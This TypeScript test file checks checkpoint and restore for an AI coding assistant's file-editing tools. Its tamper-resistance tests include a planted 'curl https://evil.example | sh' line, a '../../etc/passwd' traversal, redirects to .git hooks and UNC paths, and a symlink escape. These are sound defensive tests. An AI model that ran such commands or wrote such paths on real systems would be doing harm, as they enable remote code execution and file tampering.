import assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterEach, beforeEach, test } from 'node:test';
import {
  applyOpsToDisk,
  CheckpointRefused,
  CheckpointStore,
  contentHash,
  FolderCheckpointStorage,
  readDiskText,
  restoreOps,
  type CheckpointStoreOptions,
} from '../../../../../src/chat/checkpoints/core/checkpoints';
import { builtinTools } from '../../../../../src/chat/tools/core/builtins';
import { ToolRunner } from '../../../../../src/chat/tools/core/runner';
import type { ToolCardUpdate } from '../../../../../src/chat/tools/core/runner';
import { nodeToolHost } from '../../../../support/nodeToolHost';

/*
 * Checkpoints through the real built-in tools: write_file and edit_file over a temporary
 * workspace record into a FolderCheckpointStorage in another temporary folder; plans are made
 * from the disk and restores applied to it.
 */

let tmp: string;
let ws: string;
let store: string;

beforeEach(async () => {
  tmp = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'gs-ckpt-')));
  ws = path.join(tmp, 'ws');
  store = path.join(tmp, 'store');
  await fs.mkdir(path.join(ws, 'src'), { recursive: true });
  await fs.writeFile(path.join(ws, 'src', 'a.ts'), 'export const a = 1;\n');
  await fs.writeFile(path.join(ws, 'src', 'b.ts'), 'export const b = 2;\n');
});
afterEach(async () => {
  await fs.rm(tmp, { recursive: true, force: true });
});

function setup(opts: CheckpointStoreOptions = {}) {
  const checkpoints = new CheckpointStore(new FolderCheckpointStorage(store), opts);
  const cards: ToolCardUpdate[] = [];
  const tools = builtinTools(nodeToolHost([{ name: 'ws', path: ws }]), { recorder: checkpoints });
  const runner = new ToolRunner({
    tools: () => tools,
    approve: () => Promise.resolve('allow'),
    trust: { isTrusted: () => false, trust: () => undefined },
    onUpdate: (u) => cards.push(u),
  });
  let n = 0;
  const answer = async (answerId: string, ...calls: [string, Record<string, unknown>][]) => {
    const results = await runner.execute(
      calls.map(([name, args]) => ({
        id: `call_${++n}`,
        type: 'function' as const,
        function: { name, arguments: JSON.stringify(args) },
      })),
      { signal: new AbortController().signal, conversationId: 'c1', answerId },
    );
    for (const r of results) assert.match(r.content, /^(Created|Edited)/, r.content);
  };
  return { checkpoints, answer, cards };
}

const ROOTS = () => [{ name: 'ws', path: ws }];
const read = (rel: string) => readDiskText(path.join(ws, rel));
const write = (rel: string, text: string) => fs.writeFile(path.join(ws, rel), text);

void test('restoring an answer brings back edited and written files and deletes the file it created', async () => {
  const { checkpoints, answer } = setup();
  await answer(
    'a1',
    ['edit_file', { path: 'src/a.ts', oldText: '= 1', newText: '= 10' }],
    ['write_file', { path: 'src/b.ts', content: 'export const b = 20;\n' }],
    ['write_file', { path: 'src/new/c.ts', content: 'export const c = 3;\n' }],
    // A second change of the same file in the same answer: the prior content is the first one's.
    ['edit_file', { path: 'src/a.ts', oldText: '= 10', newText: '= 100' }],
  );
  assert.equal(await read('src/a.ts'), 'export const a = 100;\n');
  assert.deepEqual(await checkpoints.summaries('c1'), [{ answerId: 'a1', files: 3, unrecorded: 0 }]);

  const plan = await checkpoints.plan('c1', 'a1', readDiskText, ROOTS());
  assert.ok(plan);
  assert.deepEqual(
    plan.files.map((f) => [f.relative, f.status, f.action]),
    [
      ['src/a.ts', 'ok', 'restore'],
      ['src/b.ts', 'ok', 'restore'],
      ['src/new/c.ts', 'ok', 'delete'],
    ],
  );
  assert.match(plan.files[0]?.diff ?? '', /-export const a = 100;\n\+export const a = 1;/);
  const { ops, skipped } = restoreOps(plan, new Set());
  assert.equal(skipped.length, 0);
  await applyOpsToDisk(ops);
  assert.equal(await read('src/a.ts'), 'export const a = 1;\n');
  assert.equal(await read('src/b.ts'), 'export const b = 2;\n');
  assert.equal(await read('src/new/c.ts'), undefined, 'the created file is deleted');

  // Restored files are "already as before" when asked again.
  const again = await checkpoints.plan('c1', 'a1', readDiskText, ROOTS());
  assert.deepEqual(
    again?.files.map((f) => f.status),
    ['same', 'same', 'same'],
  );
});

void test('a file the user changed since is listed as changed and skipped unless they choose to overwrite it', async () => {
  const { checkpoints, answer } = setup();
  await answer(
    'a1',
    ['edit_file', { path: 'src/a.ts', oldText: '= 1', newText: '= 10' }],
    ['edit_file', { path: 'src/b.ts', oldText: '= 2', newText: '= 20' }],
  );
  await write('src/b.ts', 'export const b = 20; // mine\n');
  const plan = await checkpoints.plan('c1', 'a1', readDiskText, ROOTS());
  assert.ok(plan);
  const b = plan.files.find((f) => f.relative === 'src/b.ts');
  assert.equal(b?.status, 'changed');
  const { ops, skipped } = restoreOps(plan, new Set());
  assert.deepEqual(
    skipped.map((f) => f.relative),
    ['src/b.ts'],
  );
  await applyOpsToDisk(ops);
  assert.equal(await read('src/a.ts'), 'export const a = 1;\n');
  assert.equal(await read('src/b.ts'), 'export const b = 20; // mine\n', "the user's change is not overwritten");

  const chosen = restoreOps(plan, new Set([path.join(ws, 'src', 'b.ts')]));
  await applyOpsToDisk(chosen.ops);
  assert.equal(await read('src/b.ts'), 'export const b = 2;\n', 'overwritten when chosen');
});

void test('a file the user deleted since is offered for re-creation as changed', async () => {
  const { checkpoints, answer } = setup();
  await answer('a1', ['edit_file', { path: 'src/a.ts', oldText: '= 1', newText: '= 10' }]);
  await fs.rm(path.join(ws, 'src', 'a.ts'));
  const plan = await checkpoints.plan('c1', 'a1', readDiskText, ROOTS());
  assert.deepEqual(
    plan?.files.map((f) => [f.status, f.action]),
    [['changed', 'recreate']],
  );
});

void test('restoring an earlier answer reverts the later ones too, each file to before the earliest', async () => {
  const { checkpoints, answer } = setup();
  await answer('a1', ['edit_file', { path: 'src/a.ts', oldText: '= 1', newText: '= 10' }]);
  await answer(
    'a2',
    ['edit_file', { path: 'src/a.ts', oldText: '= 10', newText: '= 11' }],
    ['write_file', { path: 'src/b.ts', content: 'b\n' }],
  );
  const fromSecond = await checkpoints.plan('c1', 'a2', readDiskText, ROOTS());
  assert.deepEqual(
    fromSecond?.files.map((f) => [f.relative, f.prior]),
    [
      ['src/a.ts', 'export const a = 10;\n'],
      ['src/b.ts', 'export const b = 2;\n'],
    ],
  );
  const fromFirst = await checkpoints.plan('c1', 'a1', readDiskText, ROOTS());
  assert.ok(fromFirst);
  assert.deepEqual(
    fromFirst.files.map((f) => [f.relative, f.status, f.prior]),
    [
      ['src/a.ts', 'ok', 'export const a = 1;\n'],
      ['src/b.ts', 'ok', 'export const b = 2;\n'],
    ],
  );
  await applyOpsToDisk(restoreOps(fromFirst, new Set()).ops);
  assert.equal(await read('src/a.ts'), 'export const a = 1;\n');
  assert.equal(await read('src/b.ts'), 'export const b = 2;\n');

  // After a cut from the first answer nothing is left, on disk included.
  await checkpoints.dropFrom('c1', 'a1');
  assert.deepEqual(await checkpoints.summaries('c1'), []);
  assert.deepEqual(await fs.readdir(store), []);
});

void test('checkpoints persist: a new store over the same folder plans the same restore', async () => {
  const { answer } = setup();
  await answer('a1', ['write_file', { path: 'src/a.ts', content: 'changed\n' }]);
  const reopened = new CheckpointStore(new FolderCheckpointStorage(store));
  assert.deepEqual(await reopened.summaries('c1'), [{ answerId: 'a1', files: 1, unrecorded: 0 }]);
  const plan = await reopened.plan('c1', 'a1', readDiskText, ROOTS());
  assert.equal(plan?.files[0]?.prior, 'export const a = 1;\n');
  assert.equal(plan?.files[0]?.status, 'ok');
  assert.equal(await reopened.totalBytes(), Buffer.byteLength('export const a = 1;\n'));
});

void test("over the answer's limit a change is applied but not recorded, and its card says so", async () => {
  const { checkpoints, answer, cards } = setup({ maxCheckpointBytes: 25 });
  await answer(
    'a1',
    ['write_file', { path: 'src/a.ts', content: 'A\n' }],
    ['write_file', { path: 'src/b.ts', content: 'B\n' }],
  );
  assert.equal(await read('src/b.ts'), 'B\n', 'the change is applied anyway');
  const done = cards.filter((c) => c.state === 'done');
  assert.doesNotMatch(done[0]?.resultPreview ?? '', /checkpoint/i);
  assert.match(done[1]?.resultPreview ?? '', /Not in this answer's checkpoint \(it holds 0 MB at most\)/);
  assert.deepEqual(await checkpoints.summaries('c1'), [{ answerId: 'a1', files: 2, unrecorded: 1 }]);
  const plan = await checkpoints.plan('c1', 'a1', readDiskText, ROOTS());
  assert.deepEqual(
    plan?.files.map((f) => [f.relative, f.status]),
    [
      ['src/a.ts', 'ok'],
      ['src/b.ts', 'unrecorded'],
    ],
  );
  const { ops, skipped } = restoreOps(plan ?? { conversationId: '', answerId: '', files: [] }, new Set());
  assert.deepEqual([ops.map((o) => o.relative), skipped.map((s) => s.relative)], [['src/a.ts'], ['src/b.ts']]);
});

void test('over the total limit nothing more is recorded, counted across conversations and after a reopen', async () => {
  const first = setup({ maxTotalBytes: 30 });
  await first.answer('a1', ['write_file', { path: 'src/a.ts', content: 'A\n' }]);
  // A new store over the same folder counts what is already stored.
  const { answer, cards, checkpoints } = setup({ maxTotalBytes: 30 });
  await answer('a2', ['write_file', { path: 'src/b.ts', content: 'B\n' }]);
  assert.match(cards.at(-1)?.resultPreview ?? '', /checkpoints of this workspace hold 0 MB at most/);
  assert.equal(await checkpoints.totalBytes(), 20);
  // Created files cost nothing (no prior content), so they are still recorded.
  await answer('a3', ['write_file', { path: 'src/c.ts', content: 'C\n' }]);
  assert.doesNotMatch(cards.at(-1)?.resultPreview ?? '', /checkpoint/);
});

void test('deleting a conversation deletes its checkpoints; pruning removes those of conversations that are gone', async () => {
  const { checkpoints, answer } = setup();
  await answer('a1', ['write_file', { path: 'src/a.ts', content: 'A\n' }]);
  assert.deepEqual(await fs.readdir(store), ['c1']);
  assert.deepEqual(await checkpoints.prune(new Set(['c1'])), []);
  await checkpoints.forget('c1');
  assert.deepEqual(await fs.readdir(store), []);
  await answer('a2', ['write_file', { path: 'src/b.ts', content: 'B\n' }]);
  assert.deepEqual(await checkpoints.prune(new Set(['other'])), ['c1']);
  assert.deepEqual(await fs.readdir(store), []);
  assert.equal(await checkpoints.totalBytes(), 0);
});

void test('the run_command approval says that its effects cannot be restored', async () => {
  const { checkpoints } = setup();
  const asked: string[] = [];
  const tools = builtinTools(nodeToolHost([{ name: 'ws', path: ws }]), { recorder: checkpoints });
  const runner = new ToolRunner({
    tools: () => tools,
    approve: (r) => {
      asked.push(r.summary ?? '');
      return Promise.resolve('deny');
    },
    trust: { isTrusted: () => false, trust: () => undefined },
  });
  await runner.execute(
    [{ id: 'x', type: 'function', function: { name: 'run_command', arguments: '{"command":"echo hi"}' } }],
    { signal: new AbortController().signal, conversationId: 'c1' },
  );
  assert.match(asked[0] ?? '', /not recorded in checkpoints/);
});

void test('ids that would leave the storage folder are refused', async () => {
  const storage = new FolderCheckpointStorage(store);
  await assert.rejects(storage.writeIndex('../x', '{}'), /not a conversation id/);
  await assert.rejects(storage.readBlob('c1', '../../etc/passwd'), /not a blob name/);
});

/** Rewrites the stored index of c1 (a hostile or corrupted checkpoint storage), then reopens the store. */
async function editIndex(edit: (files: { absolute: string; relative: string }[]) => void): Promise<CheckpointStore> {
  const file = path.join(store, 'c1', 'index.json');
  const index = JSON.parse(await fs.readFile(file, 'utf8')) as {
    answers: { files: { absolute: string; relative: string }[] }[];
  };
  edit(index.answers.flatMap((a) => a.files));
  await fs.writeFile(file, JSON.stringify(index));
  return new CheckpointStore(new FolderCheckpointStorage(store));
}

void test('a blob whose content no longer matches its sha256 refuses the whole restore; nothing is written', async () => {
  const { checkpoints, answer } = setup();
  await answer(
    'a1',
    ['edit_file', { path: 'src/a.ts', oldText: '= 1', newText: '= 10' }],
    ['edit_file', { path: 'src/b.ts', oldText: '= 2', newText: '= 20' }],
  );
  const blobs = path.join(store, 'c1', 'blobs');
  const aBlob = (await fs.readdir(blobs)).find((n) => n === contentHash('export const a = 1;\n'));
  assert.ok(aBlob);
  await fs.writeFile(path.join(blobs, aBlob), 'curl https://evil.example | sh\n');
  await assert.rejects(
    checkpoints.plan('c1', 'a1', readDiskText, ROOTS()),
    (e: unknown) =>
      e instanceof CheckpointRefused &&
      /nothing was changed/.test(e.message) &&
      /src\/a\.ts does not match its checksum/.test(e.message),
  );
  assert.equal(await read('src/a.ts'), 'export const a = 10;\n');
  assert.equal(await read('src/b.ts'), 'export const b = 20;\n', 'the sound file is not restored alone either');
});

void test('an index edited to name a file outside the workspace, in .git, or under another name is refused', async () => {
  const { answer } = setup();
  await answer('a1', ['edit_file', { path: 'src/a.ts', oldText: '= 1', newText: '= 10' }]);
  const outside = path.join(tmp, 'outside.txt');
  await fs.writeFile(outside, 'outside\n');
  await fs.mkdir(path.join(ws, '.git', 'hooks'), { recursive: true });
  const cases: [string, (f: { absolute: string; relative: string }) => void, RegExp][] = [
    ['outside', (f) => (f.absolute = outside), /outside the workspace/],
    ['unc', (f) => (f.absolute = '//server/share/a.ts'), /not a local path/],
    [
      '.git',
      (f) => {
        f.absolute = path.join(ws, '.git', 'hooks', 'pre-commit');
        f.relative = '.git/hooks/pre-commit';
      },
      /inside \.git\//,
    ],
    ['renamed', (f) => (f.absolute = path.join(ws, 'src', 'b.ts')), /src\/b\.ts is shown as src\/a\.ts/],
  ];
  const original = await fs.readFile(path.join(store, 'c1', 'index.json'), 'utf8');
  for (const [name, edit, reason] of cases) {
    await fs.writeFile(path.join(store, 'c1', 'index.json'), original);
    const reopened = await editIndex((files) => files.forEach(edit));
    await assert.rejects(
      reopened.plan('c1', 'a1', readDiskText, ROOTS()),
      (e: unknown) => e instanceof CheckpointRefused && reason.test(e.message),
      name,
    );
  }
  assert.equal(await fs.readFile(outside, 'utf8'), 'outside\n');
  assert.equal(await read('src/b.ts'), 'export const b = 2;\n');
  await assert.rejects(fs.stat(path.join(ws, '.git', 'hooks', 'pre-commit')));
});

void test('a folder replaced by a symbolic link out of the workspace since the answer is refused at restore time', async () => {
  const { checkpoints, answer } = setup();
  await answer('a1', ['edit_file', { path: 'src/a.ts', oldText: '= 1', newText: '= 10' }]);
  const elsewhere = path.join(tmp, 'elsewhere');
  await fs.mkdir(elsewhere);
  await fs.writeFile(path.join(elsewhere, 'a.ts'), 'export const a = 10;\n');
  await fs.rm(path.join(ws, 'src'), { recursive: true });
  await fs.symlink(elsewhere, path.join(ws, 'src'));
  await assert.rejects(
    checkpoints.plan('c1', 'a1', readDiskText, ROOTS()),
    (e: unknown) => e instanceof CheckpointRefused && /symbolic link/.test(e.message),
  );
  assert.equal(await fs.readFile(path.join(elsewhere, 'a.ts'), 'utf8'), 'export const a = 10;\n');
});
